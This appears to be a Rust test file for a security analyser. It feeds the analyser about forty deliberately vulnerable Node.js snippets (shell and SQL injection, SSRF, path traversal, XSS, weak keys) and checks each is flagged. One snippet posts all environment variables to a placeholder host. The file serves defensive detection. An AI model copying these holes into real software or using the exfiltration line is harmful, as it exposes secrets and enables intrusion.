//! Calls of many libraries of Node.js that do harm, each written as in a Function.

use super::{CodeRule, certain, node};

/// A rule, the imports, and the body of the handler that breaks it.
const CASES: &[(CodeRule, &str, &str)] = &[
    (
        CodeRule::CommandInjection,
        "const shell = require('shelljs');",
        "shell.exec('git log ' + event.data.ref);",
    ),
    (
        CodeRule::CommandInjection,
        "const execa = require('execa');",
        "await execa.command(`ls ${event.data.d}`);",
    ),
    (
        CodeRule::CommandInjection,
        "",
        "const { execSync } = await import('child_process');\nexecSync('x ' + event.data.a);",
    ),
    (
        CodeRule::CommandInjection,
        "const { promisify } = require('util');\nconst execAsync = promisify(require('child_process').exec);",
        "const { stdout } = await execAsync('ls ' + event.data.d); return stdout;",
    ),
    (
        CodeRule::CommandInjection,
        "const cp = require('child_process');",
        "const args = ['-c', `grep ${event.data.q} /data/log`];\nconst p = cp.spawn('bash', args); return p.pid;",
    ),
    (
        CodeRule::CodeInjection,
        "",
        "const fn = new Function(...event.data.args, event.data.body); return fn();",
    ),
    (
        CodeRule::CodeInjection,
        "const vm = require('vm');",
        "const s = new vm.Script(event.data.code); return s.runInNewContext({});",
    ),
    (CodeRule::CodeInjection, "", "const m = require(event.data.plugin); return m.run();"),
    (
        CodeRule::SqlInjection,
        "const pgp = require('pg-promise')();\nconst db = pgp(process.env.DB);",
        "return db.any(`SELECT * FROM t WHERE a = '${event.data.a}'`);",
    ),
    (
        CodeRule::SqlInjection,
        "const { PrismaClient } = require('@prisma/client');\nconst prisma = new PrismaClient();",
        "return prisma.$queryRawUnsafe(`SELECT * FROM t WHERE a = ${event.data.a}`);",
    ),
    (
        CodeRule::SqlInjection,
        "const sqlite3 = require('sqlite3');\nconst db = new sqlite3.Database('a');",
        "db.all(`SELECT * FROM t WHERE a = '${event.data.a}'`, (err, rows) => rows);",
    ),
    (
        CodeRule::SqlInjection,
        "const { DataSource } = require('typeorm');\nconst ds = new DataSource({});",
        "return ds.query('SELECT * FROM t WHERE a = ' + event.data.a);",
    ),
    (
        CodeRule::SqlInjection,
        "const oracledb = require('oracledb');",
        "const c = await oracledb.getConnection({}); return c.execute(`SELECT * FROM t WHERE a = '${event.data.a}'`);",
    ),
    (
        CodeRule::NoSqlInjection,
        "const { MongoClient } = require('mongodb');\nconst c = new MongoClient(process.env.M);",
        "await c.connect();\nconst col = c.db('a').collection('b');\nawait col.deleteMany(event.data.filter);",
    ),
    (
        CodeRule::NoSqlInjection,
        "const mongoose = require('mongoose');\nconst S = new mongoose.Schema({ a: String });\nconst M = mongoose.model('M', S);",
        "return M.findOne({ token: event.extensions.request.query.token });",
    ),
    (CodeRule::TemplateInjection, "const pug = require('pug');", "return pug.render(event.data.tpl);"),
    (CodeRule::TemplateInjection, "const _ = require('lodash');", "return _.template(event.data.tpl)({});"),
    (
        CodeRule::PathTraversal,
        "const fs = require('fs-extra');",
        "return fs.readJson(`/data/${event.data.id}.json`);",
    ),
    (
        CodeRule::PathTraversal,
        "const { readFile } = require('fs/promises');\nconst { join } = require('path');",
        "return (await readFile(join('/data', event.data.f))).toString();",
    ),
    (CodeRule::PathTraversal, "const fs = require('fs');", "fs.unlink('/tmp/' + event.data.f, () => {});"),
    (
        CodeRule::ServerSideRequestForgery,
        "const request = require('request-promise');",
        "return request({ uri: event.data.uri, json: true });",
    ),
    (
        CodeRule::ServerSideRequestForgery,
        "const superagent = require('superagent');",
        "return (await superagent.get(event.data.u)).text;",
    ),
    (
        CodeRule::ServerSideRequestForgery,
        "const fetch = require('node-fetch');",
        "const r = await fetch(event.data.u, { method: 'POST' }); return r.text();",
    ),
    (
        CodeRule::ServerSideRequestForgery,
        "const https = require('https');",
        "const o = { hostname: event.data.h, port: 443, path: '/' }; https.request(o, () => {}).end();",
    ),
    (
        CodeRule::OpenRedirect,
        "",
        "event.extensions.response.writeHead(302, { Location: event.extensions.request.query.to }); event.extensions.response.end();",
    ),
    (
        CodeRule::OpenRedirect,
        "",
        "const res = event.extensions.response; res.set({ location: event.data.to }); res.status(301);",
    ),
    (
        CodeRule::CrossSiteScripting,
        "",
        "const res = event.extensions.response; res.status(200).type('html').send('Hi ' + event.data.n);",
    ),
    (
        CodeRule::CrossSiteScripting,
        "",
        "const html = ['<ul>', ...event.data.l.map((x) => '<li>' + x + '</li>'), '</ul>'].join(''); return html;",
    ),
    (
        CodeRule::SecretLogged,
        "const winston = require('winston');\nconst logger = winston.createLogger({});",
        "const cfg = { url: process.env.URL, apiKey: process.env.API_KEY }; logger.info('config', cfg);",
    ),
    (
        CodeRule::SecretLogged,
        "",
        "const { headers } = event.extensions.request; console.log('auth', headers['Authorization']);",
    ),
    (CodeRule::SecretReturned, "", "return { ...process.env };"),
    (
        CodeRule::SecretSent,
        "const axios = require('axios');",
        "await axios({ method: 'post', url: 'https://x.example.org', data: { ...process.env } });",
    ),
    (CodeRule::EventLogged, "", "console.log(JSON.stringify(event, null, 2));"),
    (
        CodeRule::StackReturned,
        "",
        "try { return JSON.parse(event.data); } catch (error) { const { stack } = error; return { stack }; }",
    ),
    (
        CodeRule::TlsVerificationOff,
        "const axios = require('axios');\nconst https = require('https');",
        "return axios.get('https://a.example.com', { httpsAgent: new https.Agent({ rejectUnauthorized: false }) });",
    ),
    (
        CodeRule::TokenNotVerified,
        "const jwtDecode = require('jwt-decode');",
        "return jwtDecode(event.data.token).sub;",
    ),
    (
        CodeRule::SecretCompared,
        "const crypto = require('crypto');",
        "const mac = crypto.createHmac('sha256', process.env.HOOK_SECRET).update(JSON.stringify(event.data)).digest('hex'); if (`sha256=${mac}` !== event.extensions.request.headers['x-sig']) return 'no'; return 1;",
    ),
    (
        CodeRule::StaticKey,
        "const crypto = require('crypto');",
        "const k = 'abcdefghabcdefgh'; const c = crypto.createCipheriv('aes-128-cbc', k, crypto.randomBytes(16)); return c.update('a');",
    ),
    (
        CodeRule::PredictableRandom,
        "",
        "function generateToken() { let t = ''; for (let i = 0; i < 20; i++) t += 'abc'.charAt(Math.floor(Math.random() * 3)); return t; } const sessionToken = generateToken(); return { sessionToken };",
    ),
    (CodeRule::SecretFallback, "const config = { jwtSecret: process.env.JWT_SECRET ?? 'dev' };", "return 1;"),
    (
        CodeRule::PrototypePollution,
        "function set(o, path, v) { const parts = path.split('.'); let c = o; for (let i = 0; i < parts.length - 1; i++) { c = c[parts[i]]; } c[parts[parts.length - 1]] = v; }\nconst store = {};",
        "set(store, event.data.path, event.data.value);",
    ),
    (
        CodeRule::HeaderInjection,
        "",
        "const { response } = event.extensions; response.header(event.data.k, event.data.v);",
    ),
    (
        CodeRule::PatternFromInput,
        "",
        "const { field, rx } = event.data; return [{ a: 'x' }].filter((r) => r[field].match(new RegExp(rx, 'g')));",
    ),
];

#[test]
fn the_libraries_of_node_are_known() {
    for (rule, imports, body) in CASES {
        let analysis = node(imports, body);
        assert!(certain(&analysis).contains(rule), "{imports}\n{body}\n{analysis:#?}");
        assert!(certain(&analysis).iter().all(|one| one == rule), "{imports}\n{body}\n{analysis:#?}");
    }
}
